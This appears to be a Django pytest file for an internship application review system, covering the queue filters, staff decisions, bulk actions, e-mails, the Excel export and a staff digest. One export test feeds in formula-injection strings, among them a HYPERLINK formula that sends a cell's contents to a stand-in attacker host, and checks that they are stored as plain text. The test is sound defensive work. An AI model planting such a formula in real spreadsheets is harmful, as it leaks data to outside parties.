"""Staff review: the queue and its filters, decisions one by one or in bulk, the export, the digest."""

import io
import re
from datetime import timedelta

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import Role, User
from courses.models import Enrolment
from internships import services
from internships.models import Application, ApplicationEvent, StudentProfile
from internships.reminders import staff_digest_sections
from notifications import kinds
from notifications.models import Reminder
from tests.factories import (
    ApplicationFactory,
    CohortCourseFactory,
    CohortFactory,
    CourseFactory,
    StaffFactory,
    StudentFactory,
    StudentProfileFactory,
    SubmittedApplicationFactory,
)

QUEUE_QUERIES = 6  # exactly, at 10 rows or 1000: an N+1 on the rows would add at least 10


@pytest.fixture
def cohort(db):
    """An open cohort with a plan of five courses, each due on its own date."""
    cohort = CohortFactory(name_zh="二〇二七春季班", name_en="Spring 2027 cohort")
    for i in range(5):
        CohortCourseFactory(
            cohort=cohort,
            course=CourseFactory(),
            due_on=cohort.applications_close_on + timedelta(days=30 + 7 * i),
        )
    return cohort


def submitted(cohort, *, name="王小明", number=None, major="市场营销", **fields):
    student = StudentFactory(full_name=name)
    profile = {"student_number": number} if number else {}
    StudentProfileFactory(user=student, major=major, **profile)
    return SubmittedApplicationFactory(student=student, cohort=cohort, **fields)


def queue_ids(response) -> set[int]:
    """The applications listed on a review queue page."""
    return {int(pk) for pk in re.findall(r'name="selected" value="(\d+)"', response.content.decode())}


def shown_messages(response) -> list[str]:
    return [str(message) for message in response.context["messages"]]


# --- The queue and its filters -------------------------------------------------------------------


def test_the_queue_shows_the_applications_waiting_for_a_decision_by_default(client, staff, cohort):
    waiting = {submitted(cohort).pk, submitted(cohort, status="waitlisted").pk}
    for status in ("accepted", "rejected", "withdrawn"):
        submitted(cohort, status=status)
    ApplicationFactory(cohort=cohort)  # a draft
    client.force_login(staff)

    response = client.get(reverse("internships:review_queue"))

    assert response.status_code == 200
    assert queue_ids(response) == waiting


def test_the_queue_shows_every_application_but_drafts_with_status_all(client, staff, cohort):
    shown = {submitted(cohort, status=s).pk for s in ("submitted", "waitlisted", "accepted", "rejected")}
    shown.add(submitted(cohort, status="withdrawn").pk)
    ApplicationFactory(cohort=cohort)
    client.force_login(staff)

    response = client.get(reverse("internships:review_queue"), {"status": "all"})

    assert queue_ids(response) == shown


def test_the_queue_filters_by_one_status(client, staff, cohort):
    waitlisted = submitted(cohort, status="waitlisted")
    submitted(cohort)
    client.force_login(staff)

    response = client.get(reverse("internships:review_queue"), {"status": "waitlisted"})

    assert queue_ids(response) == {waitlisted.pk}


def test_the_queue_filters_by_cohort(client, staff, cohort):
    mine = submitted(cohort)
    submitted(CohortFactory())
    client.force_login(staff)

    response = client.get(reverse("internships:review_queue"), {"cohort": cohort.pk})

    assert queue_ids(response) == {mine.pk}


def test_the_queue_filters_by_major(client, staff, cohort):
    marketing = submitted(cohort, major="Marketing Management")
    submitted(cohort, major="Logistics")
    client.force_login(staff)

    response = client.get(reverse("internships:review_queue"), {"major": "marketing"})

    assert queue_ids(response) == {marketing.pk}


@pytest.mark.parametrize("q", ["张伟", "张", "2023009999", " 2023009999 "])
def test_the_queue_finds_a_student_by_name_or_student_number(client, staff, cohort, q):
    wanted = submitted(cohort, name="张伟", number="2023009999")
    submitted(cohort, name="李娜", number="2023001111")
    client.force_login(staff)

    response = client.get(reverse("internships:review_queue"), {"q": q})

    assert queue_ids(response) == {wanted.pk}


@pytest.mark.parametrize("size", [10, 1000])
def test_the_queue_makes_the_same_number_of_queries_whatever_its_length(
    client, django_assert_num_queries, staff, cohort, size
):
    now = timezone.now()
    users = User.objects.bulk_create(
        User(email=f"bulk{i}@qq.com", full_name=f"同学{i}", role=Role.STUDENT, password="!")
        for i in range(size)
    )
    StudentProfile.objects.bulk_create(
        StudentProfile(user=user, student_number=f"2023{i:06d}", major="市场营销", graduation_year=2027)
        for i, user in enumerate(users)
    )
    Application.objects.bulk_create(
        Application(
            student=user,
            cohort=cohort,
            status=Application.Status.SUBMITTED,
            submitted_at=now - timedelta(minutes=i),
            consent_at=now,
            consent_version="2026-09",
        )
        for i, user in enumerate(users)
    )
    client.force_login(staff)

    with django_assert_num_queries(QUEUE_QUERIES):
        response = client.get(reverse("internships:review_queue"))

    assert len(queue_ids(response)) == min(size, 50)
    assert "同学" in response.content.decode()


# --- Decisions -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "decision, kind",
    [
        ("accepted", "application_accepted"),
        ("waitlisted", "application_waitlisted"),
        ("rejected", "application_rejected"),
    ],
)
def test_a_decision_records_who_when_and_why_and_tells_the_student_once(
    client, staff, cohort, django_capture_on_commit_callbacks, decision, kind
):
    application = submitted(cohort)
    client.force_login(staff)
    before = timezone.now()

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("internships:review_detail", args=[application.pk]),
            {"decision": decision, "note": "Thank you for applying."},
        )

    assert response.status_code == 302
    assert response["Location"] == reverse("internships:review_queue")
    application.refresh_from_db()
    assert application.status == decision
    assert application.decided_by == staff
    assert application.decided_at >= before
    assert application.decision_note == "Thank you for applying."
    event = ApplicationEvent.objects.get(application=application, to_status=decision)
    assert (event.from_status, event.actor, event.note) == ("submitted", staff, "Thank you for applying.")
    reminder = Reminder.objects.get(recipient=application.student, kind=kind)
    assert kinds.get(kind).essential
    assert reminder.subject == application
    assert reminder.status == Reminder.Status.SENT
    assert [message.to for message in mail.outbox] == [[application.student.email]]


def test_the_decision_e_mail_is_in_the_language_of_a_chinese_student(
    staff, cohort, django_capture_on_commit_callbacks
):
    application = submitted(cohort)
    application.student.language = "zh-hans"
    application.student.save(update_fields=["language"])

    with django_capture_on_commit_callbacks(execute=True):
        services.application_decide(application=application, decision="accepted", note="", by=staff)

    [message] = mail.outbox
    assert "二〇二七春季班" in message.subject
    assert "Spring 2027 cohort" not in message.subject


def test_the_decision_e_mail_is_in_the_language_of_an_english_student(
    staff, cohort, django_capture_on_commit_callbacks
):
    application = submitted(cohort)

    with django_capture_on_commit_callbacks(execute=True):
        services.application_decide(application=application, decision="accepted", note="", by=staff)

    [message] = mail.outbox
    assert "accepted" in message.subject
    assert "Spring 2027 cohort" in message.subject


def test_accepting_enrols_the_student_in_the_cohorts_courses_with_their_due_dates(staff, cohort):
    application = submitted(cohort)

    services.application_decide(application=application, decision="accepted", note="", by=staff)

    planned = {cc.course_id: cc.due_on for cc in cohort.course_plan.all()}
    enrolled = dict(Enrolment.objects.filter(student=application.student).values_list("course_id", "due_on"))
    assert len(planned) == 5
    assert enrolled == planned


@pytest.mark.parametrize("decision", ["waitlisted", "rejected"])
def test_waitlisting_or_rejecting_enrols_nobody(staff, cohort, decision):
    application = submitted(cohort)

    services.application_decide(application=application, decision=decision, note="", by=staff)

    assert not Enrolment.objects.filter(student=application.student).exists()


def test_a_waitlisted_student_is_accepted_later(staff, cohort, django_capture_on_commit_callbacks):
    application = submitted(cohort)
    services.application_decide(application=application, decision="waitlisted", note="", by=staff)

    with django_capture_on_commit_callbacks(execute=True):
        services.application_decide(
            application=application, decision="accepted", note="A place opened.", by=staff
        )

    application.refresh_from_db()
    assert application.status == Application.Status.ACCEPTED
    assert Enrolment.objects.filter(student=application.student).count() == 5
    assert list(application.events.values_list("from_status", "to_status")) == [
        ("submitted", "waitlisted"),
        ("waitlisted", "accepted"),
    ]
    assert Reminder.objects.filter(recipient=application.student, kind="application_accepted").exists()
    assert any("accepted" in message.subject for message in mail.outbox)


@pytest.mark.parametrize("status", ["draft", "withdrawn", "accepted", "rejected"])
def test_only_a_waiting_application_can_be_decided(staff, cohort, status):
    application = ApplicationFactory(cohort=cohort) if status == "draft" else submitted(cohort, status=status)

    with pytest.raises(services.ApplicationError, match="only submitted or waitlisted"):
        services.application_decide(application=application, decision="accepted", note="", by=staff)

    application.refresh_from_db()
    assert application.status == status
    assert application.decided_by is None
    assert not application.events.exists()
    assert not Reminder.objects.filter(recipient=application.student).exists()
    assert not Enrolment.objects.filter(student=application.student).exists()


def test_the_review_page_refuses_to_decide_a_withdrawn_application(client, staff, cohort):
    application = submitted(cohort, status="withdrawn")
    client.force_login(staff)

    response = client.post(
        reverse("internships:review_detail", args=[application.pk]), {"decision": "accepted", "note": ""}
    )

    assert response.status_code == 200
    assert any("only submitted or waitlisted" in m for m in shown_messages(response))
    application.refresh_from_db()
    assert application.status == Application.Status.WITHDRAWN


def test_a_draft_has_no_review_page(client, staff, cohort):
    application = ApplicationFactory(cohort=cohort)
    client.force_login(staff)

    response = client.get(reverse("internships:review_detail", args=[application.pk]))

    assert response.status_code == 404


# --- Bulk decisions ------------------------------------------------------------------------------


def test_a_bulk_decision_decides_every_selected_application(client, staff, cohort):
    chosen = [submitted(cohort), submitted(cohort, status="waitlisted")]
    left = submitted(cohort)
    client.force_login(staff)

    response = client.post(
        reverse("internships:review_queue"),
        {"selected": [a.pk for a in chosen], "decision": "rejected", "note": "The cohort is full."},
        follow=True,
    )

    assert "Decision recorded for 2 applications." in shown_messages(response)
    for application in chosen:
        application.refresh_from_db()
        assert application.status == Application.Status.REJECTED
        assert application.decided_by == staff
        assert application.decision_note == "The cohort is full."
    left.refresh_from_db()
    assert left.status == Application.Status.SUBMITTED


def test_a_bulk_decision_reports_the_applications_that_were_not_waiting(client, staff, cohort):
    waiting = submitted(cohort, name="张伟")
    decided = submitted(cohort, name="李娜", status="accepted")
    client.force_login(staff)

    response = client.post(
        reverse("internships:review_queue") + "?status=all",
        {"selected": [waiting.pk, decided.pk], "decision": "waitlisted", "note": ""},
        follow=True,
    )

    messages = shown_messages(response)
    assert "Decision recorded for 1 applications." in messages
    assert "李娜: only submitted or waitlisted applications can be decided." in messages
    waiting.refresh_from_db()
    decided.refresh_from_db()
    assert waiting.status == Application.Status.WAITLISTED
    assert decided.status == Application.Status.ACCEPTED


def test_a_bulk_decision_still_decides_the_others_when_a_colleague_decided_one_meanwhile(
    client, staff, cohort
):
    """The queue was loaded with both rows waiting; one was decided before the bulk form was sent."""
    waiting = submitted(cohort, name="张伟")
    meanwhile = submitted(cohort, name="李娜")
    services.application_decide(application=meanwhile, decision="rejected", note="", by=StaffFactory())
    client.force_login(staff)

    response = client.post(
        reverse("internships:review_queue"),
        {"selected": [waiting.pk, meanwhile.pk], "decision": "accepted", "note": ""},
        follow=True,
    )

    messages = shown_messages(response)
    assert "Decision recorded for 1 applications." in messages
    assert any(m.startswith("李娜:") for m in messages)
    waiting.refresh_from_db()
    assert waiting.status == Application.Status.ACCEPTED


def test_a_bulk_decision_without_a_selection_decides_nothing(client, staff, cohort):
    application = submitted(cohort)
    client.force_login(staff)

    response = client.post(reverse("internships:review_queue"), {"decision": "accepted", "note": ""})

    assert "Select at least one application." in shown_messages(response)
    application.refresh_from_db()
    assert application.status == Application.Status.SUBMITTED


# --- Export --------------------------------------------------------------------------------------


def test_the_export_has_a_header_and_one_row_per_application_in_the_filter(client, staff, cohort):
    wanted = [
        submitted(cohort, name="张伟", number="2023009999"),
        submitted(cohort, name="李娜", status="waitlisted"),
    ]
    submitted(cohort, status="accepted")  # not waiting: outside the default filter
    submitted(CohortFactory())  # another cohort
    client.force_login(staff)

    response = client.get(reverse("internships:review_export"), {"cohort": cohort.pk})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert header[:3] == ("Student number", "Full name", "E-mail")
    assert len(body) == len(wanted)
    assert {row[1] for row in body} == {"张伟", "李娜"}
    first = next(row for row in body if row[1] == "张伟")
    assert first[0] == "2023009999"
    assert first[2] == wanted[0].student.email
    assert first[6] == "Spring 2027 cohort"


def test_the_export_with_status_all_includes_decided_applications(client, staff, cohort):
    for status in ("submitted", "accepted", "rejected"):
        submitted(cohort, status=status)
    client.force_login(staff)

    response = client.get(reverse("internships:review_export"), {"status": "all"})

    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert len(rows) == 1 + 3


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=1+1",
        "+86 138",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
    ids=["hyperlink", "equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_the_export_writes_what_students_typed_as_text_never_as_a_formula(client, staff, cohort, text):
    student = StudentFactory(full_name=text)
    StudentProfileFactory(user=student, major=text, class_name=text[:50])
    SubmittedApplicationFactory(student=student, cohort=cohort, decision_note=text)
    client.force_login(staff)

    response = client.get(reverse("internships:review_export"), {"cohort": cohort.pk})

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [cell.data_type for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    header = [cell.value for cell in sheet[1]]
    row = {title: cell for title, cell in zip(header, sheet[2], strict=True)}
    for title in ("Full name", "Major", "Class", "Note"):
        assert row[title].data_type == "s", title
        # The text is kept as typed (a carriage return reads back as a line feed in XML).
        assert row[title].value.replace("\n", "\r") == text.replace("\n", "\r")[: len(row[title].value)]


def test_the_export_drops_characters_a_workbook_cannot_hold(client, staff, cohort):
    """A control character pasted into a profile would otherwise make the export fail."""
    student = StudentFactory(full_name="王\x01小明")
    StudentProfileFactory(user=student)
    SubmittedApplicationFactory(student=student, cohort=cohort, decision_note="ok\x0bthen")
    client.force_login(staff)

    response = client.get(reverse("internships:review_export"), {"cohort": cohort.pk})

    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert (rows[1][1], rows[1][-1]) == ("王小明", "okthen")


def test_every_export_writes_its_cells_through_the_one_text_safe_helper():
    """openpyxl's own append turns a string starting with = into a formula: every module that
    builds a workbook writes its rows with spreadsheet_row (and no CSV writer bypasses it)."""
    from pathlib import Path

    from django.conf import settings

    from tests.source_files import project_files

    root = Path(settings.BASE_DIR)
    writers = [
        path
        for path in project_files(".py")
        if path.name != "spreadsheets.py"
        and any(
            name in path.read_text(encoding="utf-8") for name in ("Workbook(", "csv.writer", "DictWriter")
        )
    ]
    assert writers  # the review export at least
    assert [
        str(path.relative_to(root))
        for path in writers
        if "spreadsheet_row(" not in path.read_text(encoding="utf-8")
    ] == []


# --- Staff digest --------------------------------------------------------------------------------


def test_the_staff_digest_lists_applications_waiting_for_more_than_three_days(db, cohort):
    now = timezone.now()
    old = submitted(cohort, name="张伟", submitted_at=now - timedelta(days=4))
    submitted(cohort, name="李娜", submitted_at=now - timedelta(days=2))
    submitted(cohort, name="赵敏", status="waitlisted", submitted_at=now - timedelta(days=9))

    sections = {str(section["title"]): section for section in staff_digest_sections()}

    section = sections["Applications waiting for a decision for more than 3 days"]
    assert section["total"] == 1
    [line] = section["lines"]
    assert line.startswith(f"{old.student.full_name} · Spring 2027 cohort")


def test_the_staff_digest_has_no_waiting_section_when_every_application_is_recent(db, cohort):
    submitted(cohort, submitted_at=timezone.now() - timedelta(days=1))

    titles = [str(section["title"]) for section in staff_digest_sections()]

    assert "Applications waiting for a decision for more than 3 days" not in titles
